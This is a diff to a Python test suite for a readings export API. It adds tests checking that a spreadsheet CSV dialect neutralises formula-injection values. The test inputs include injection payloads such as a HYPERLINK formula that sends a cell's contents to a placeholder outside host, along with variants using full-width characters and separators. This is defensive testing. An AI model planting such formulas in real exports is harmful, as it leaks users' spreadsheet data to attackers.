@@ -4,6 +4,7 @@ import asyncio
 import csv
 import io
 import json
+import re
 from collections.abc import Callable, Sequence
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -17,6 +18,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from pydantic import SecretStr
 
+from api.http.csv_dialects import escape_formulas, unescape_formulas
 from core.database import Pool
 from core.imports import ImportOptions
 from core.readings import EARLIEST, LATEST
@@ -235,6 +237,56 @@ async def test_the_header_accept_gives_the_format_unless_the_parameter_does(
     assert named.headers["content-disposition"] == 'attachment; filename="readings.ndjson"'
 
 
+@pytest.mark.parametrize(
+    ("equipment_id", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-5.2", "'-5.2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\uff1d1", "'\uff1d1"),
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("a;=1;b", "a;'=1;b"),
+        ('x;"=1&"', 'x;\'"=1&"'),
+        (" =1", "' =1"),
+        ("'=1", "''=1"),
+        (
+            '=HYPERLINK("https://x.example/?"&A2,"ok")',
+            '\'=HYPERLINK("https://x.example/?"&A2,"ok")',
+        ),
+        ("pump-1", "pump-1"),
+        ("a=b", "a=b"),
+        ("é", "é"),
+    ],
+)
+async def test_a_spreadsheet_gets_no_formula_and_numbers_stay_numbers(
+    client: httpx2.AsyncClient, pool: Pool, equipment_id: str, cell: str
+) -> None:
+    await insert(pool, (equipment_id, NOON, -5.2))
+    query = {"format": "csv", "csvDialect": "spreadsheet"}
+    text = (await client.get(PATH, params=query)).raise_for_status().content.decode()
+    header, line = list(csv.reader(io.StringIO(text, "")))
+    assert header == COLUMNS
+    assert line[:3] == [cell, NOON.isoformat(), "-5.2"]
+    assert ",-5.2," in text  # unquoted: a number, and no text with an apostrophe
+    plain = (await client.get(PATH, params=query | {"csvDialect": "plain"})).content
+    assert plain == (await client.get(PATH, params={"format": "csv"})).content
+    assert plain.partition(b"\n")[2].decode().strip('"').startswith(equipment_id[:1])
+
+
+@given(
+    text=st.text(
+        st.sampled_from("=+-@\t\r\n';, \"a\uff1d\uff0b\uff0d\uff20") | st.characters(), max_size=20
+    )
+)
+def test_what_was_escaped_for_a_spreadsheet_can_be_read_again(text: str) -> None:
+    escaped = escape_formulas(text)
+    assert unescape_formulas(escaped) == text
+    for cell in re.split("[;\t\r\n]", escaped):
+        assert not re.match('[ "]*[=+@\\-\uff1d\uff0b\uff0d\uff20]', cell)
+
+
 async def test_an_unknown_format_is_rejected_with_the_known_ones(
     client: httpx2.AsyncClient,
 ) -> None:
@@ -256,6 +308,9 @@ async def test_an_unknown_format_is_rejected_with_the_known_ones(
         ("cursor=x", "cursor", "invalid_cursor"),
         ("format=csv&limit=1", "limit", "validation_error"),
         ("format=csv&cursor=x", "cursor", "validation_error"),
+        ("format=csv&csvDialect=excel", "csvDialect", "validation_error"),
+        ("format=ndjson&csvDialect=spreadsheet", "csvDialect", "validation_error"),
+        ("csvDialect=spreadsheet", "csvDialect", "validation_error"),
     ],
 )
 async def test_an_invalid_parameter_is_rejected_by_name(
